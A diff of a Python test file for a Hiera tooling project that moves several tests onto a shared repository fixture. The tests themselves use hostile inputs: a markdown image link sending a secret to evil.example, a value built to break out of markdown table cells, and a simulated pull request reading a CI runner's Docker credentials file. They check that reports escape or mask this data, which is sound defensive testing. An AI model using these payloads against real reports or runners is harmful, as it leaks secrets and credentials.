@@ -26,7 +26,7 @@ from hiera_ls.project.settings import Settings
 from hiera_ls.project.workspace import Workspace
 from hiera_ls.report.formats import FORMATS
 from hiera_ls.source.spans import Position
-from tests.report.diff_fixture import git, planted_repo, write
+from tests.report.diff_fixture import Planted, copy_planted, git, write
 
 HOSTILE = [
     "![x](https://evil.example/?s=secret)",
@@ -145,10 +145,13 @@ def test_across_profiles_fences_a_value_holding_backticks(tmp_path: Path) -> Non
 
 
 def test_diff_markdown_keeps_keys_and_values_in_their_cells(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+    planted_template: Planted,
 ) -> None:
     root = tmp_path / "repo"
-    planted_repo(root)
+    copy_planted(planted_template, root)
     write(root, "data/roles/web.yaml", "---\napp::port: '`` | ![x](https://e.example/)'\n")
     monkeypatch.chdir(root)
     assert main(["diff", "--format", "markdown", "--keys", "app::port"]) == 1
@@ -161,14 +164,17 @@ def test_diff_markdown_keeps_keys_and_values_in_their_cells(
 
 
 def test_diff_masks_data_read_from_outside_the_repository(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+    planted_template: Planted,
 ) -> None:
     """A pull request adds a level reading the runner's ~/.docker/config.json."""
     outside = tmp_path / "home" / ".docker" / "config.json"
     outside.parent.mkdir(parents=True)
     outside.write_text('{"auths": {"registry.example": {"auth": "c2VjcmV0OnRva2Vu"}}}\n')
     root = tmp_path / "repo"
-    planted_repo(root)
+    copy_planted(planted_template, root)
     hiera = (root / "hiera.yaml").read_text()
     write(
         root,
